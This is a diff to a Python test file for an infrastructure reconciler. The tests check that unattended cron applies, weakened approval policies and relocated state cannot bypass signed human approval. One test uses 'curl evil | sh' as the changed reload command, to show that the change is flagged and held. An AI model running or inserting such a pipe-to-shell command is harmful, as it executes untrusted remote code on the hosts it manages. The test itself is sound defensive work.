@@ -6,10 +6,10 @@ import copy
 import json
 import subprocess
 from collections.abc import Iterator
-from dataclasses import replace
+from dataclasses import dataclass, replace
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
-from typing import Any
+from typing import Any, ClassVar
 
 import pytest
 
@@ -19,7 +19,7 @@ from reconciler.environment.load import InvalidEnvironment
 from reconciler.environment.rules import Policy
 from reconciler.environment.settings import Environment, Host
 from reconciler.environment.yaml_reader import Problem
-from reconciler.model import Place
+from reconciler.model import Change, Place, Step
 from reconciler.output.documents.plan import digest_of
 from tests.approval.test_signatures import key
 from tests.support.scripted import Scripted, Thing
@@ -87,7 +87,8 @@ class Desk:
 
 
 @pytest.fixture
-def desk(tmp_path: Path) -> Desk:
+def desk(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Desk:
+    monkeypatch.setenv("RECONCILE_STATE", str(tmp_path / "state"))
     made = Desk(tmp_path)
     made.hosts["a"].things["/x"] = "old"
     made.save()
@@ -288,3 +289,126 @@ def test_where_the_history_is_cut_off_the_author_is_not_known(tmp_path: Path) ->
     }
     subprocess.run(["git", "clone", "-q", "--depth", "1", f"file://{whole}", str(shallow)], check=True)
     assert "shallow" in authors(shallow / "e.yaml").unknown
+
+
+@dataclass(frozen=True, kw_only=True)
+class Reloaded(Thing):
+    """A service that reloads what it is to have, by a command of the file's."""
+
+    kind: ClassVar[str] = "service"
+
+    reload: str = "reload"
+
+    def verb(self, change: Change) -> str:
+        return "reload" if change.seen else "create"
+
+    def steps(self, change: Change) -> Iterator[Step]:
+        yield Step(f"check {self.reload}", "as the file says")
+        yield from super().steps(change)
+
+
+class Cron(Desk):
+    """The same, with a service on each host that may reload by itself."""
+
+    def declare(self, name: str = "environments/e.yaml", digest: str = "1" * 64, **policy: Any) -> None:
+        more = {"without_approval": ("reload",), **policy}
+        self.reload = more.pop("reload", "reload")
+        super().declare(name, digest, **more)
+        services = tuple(Reloaded(host=host, label="/s", reload=self.reload) for host in self.hosts)
+        self.environments[name] = replace(self.environments[name], resources=services)
+
+    def auto(self) -> int:
+        """What cron runs, after a service has come to be as it shall not be."""
+        for host in self.hosts.values():
+            host.things["/s"] = "old"
+            host.ran.clear()
+        return self.scene.run(["apply", "environments/e.yaml", "--auto"])
+
+
+@pytest.fixture
+def cron(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Cron:
+    monkeypatch.setenv("RECONCILE_STATE", str(tmp_path / "state"))
+    return Cron(tmp_path)
+
+
+def test_what_runs_by_itself_was_approved_before(cron: Cron, capsys: pytest.CaptureFixture) -> None:
+    def approve() -> None:
+        cron.save()
+        cron.plan.with_name("p.json.approvals").unlink(missing_ok=True)
+        assert cron.apply() == 8
+        cron.approve("ada")
+        assert cron.apply() == 0
+
+    assert cron.auto() == 2
+    assert cron.ran == []
+    approve()
+    assert cron.auto() == 0
+    assert sorted(set(cron.ran)) == ["check /s", "check reload", "set /s 'new'"]
+    # Another command: the plan says so, and it waits, also where nothing else is to be done.
+    cron.declare(digest="2" * 64, reload="curl evil | sh")
+    assert cron.auto() == 2
+    assert cron.ran == []
+    capsys.readouterr()
+    assert cron.scene.run(["apply", "environments/e.yaml", "--yes"]) == 8
+    told = capsys.readouterr()
+    assert '! a service /s: reload: "reload" → "curl evil | sh"' in told.out
+    assert "and 2 settings that are not the ones last approved (0 of 1 approvers so far)" in told.err
+    for host in cron.hosts.values():
+        host.things["/s"] = "new"
+    assert cron.scene.run(["plan", "environments/e.yaml", "--detailed-exitcode"]) == 2
+    assert cron.scene.run(["apply", "environments/e.yaml", "--yes"]) == 8
+    approve()
+    assert cron.ran == []
+    assert cron.scene.run(["apply", "environments/e.yaml", "--yes"]) == 0
+    assert cron.auto() == 0
+    assert "check curl evil | sh" in cron.ran
+
+
+def test_a_weaker_policy_needs_the_approval_of_the_one_before(
+    cron: Cron, capsys: pytest.CaptureFixture
+) -> None:
+    cron.save()
+    cron.approve("ada")
+    assert cron.apply() == 0
+    before = cron.signers.read_text()
+    for policy in (
+        {"approvers": 0, "allowed_signers": None},
+        {"approvers": 0},
+        {"allowed_signers": str(cron.folder / "others")},
+    ):
+        (cron.folder / "others").write_text(f"eve@example.org {(cron.folder / 'eve.pub').read_text()}")
+        cron.declare(digest="3" * 64, **policy)
+        capsys.readouterr()
+        assert cron.auto() == 2
+        assert cron.ran == []
+        assert cron.scene.run(["apply", "environments/e.yaml", "--yes"]) == 8
+        assert "! policy: " in capsys.readouterr().out
+        cron.save()
+        cron.plan.with_name("p.json.approvals").unlink(missing_ok=True)
+        assert cron.apply() == 8
+        cron.approve("eve")
+        assert cron.apply() == 8
+        assert cron.ran == []
+    cron.approve("ada")
+    (cron.folder / "others").write_text(f"{(cron.folder / 'others').read_text()}{before}")
+    assert cron.apply() == 6
+    cron.declare(digest="3" * 64, approvers=0, allowed_signers=None)
+    cron.save()
+    cron.approve("ada")
+    assert cron.apply() == 0
+    assert cron.scene.run(["apply", "environments/e.yaml", "--yes"]) == 0
+
+
+def test_a_plan_made_where_less_is_known_does_not_hide_a_changed_policy(
+    cron: Cron, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture
+) -> None:
+    cron.save()
+    cron.approve("ada")
+    assert cron.apply() == 0
+    cron.declare(digest="3" * 64, approvers=0, allowed_signers=None)
+    monkeypatch.setenv("RECONCILE_STATE", str(tmp_path / "elsewhere"))
+    cron.save()
+    cron.approve("ada")
+    monkeypatch.setenv("RECONCILE_STATE", str(tmp_path / "state"))
+    assert cron.apply() == 6
+    assert "policy: approvers changed since it was last approved" in capsys.readouterr().err
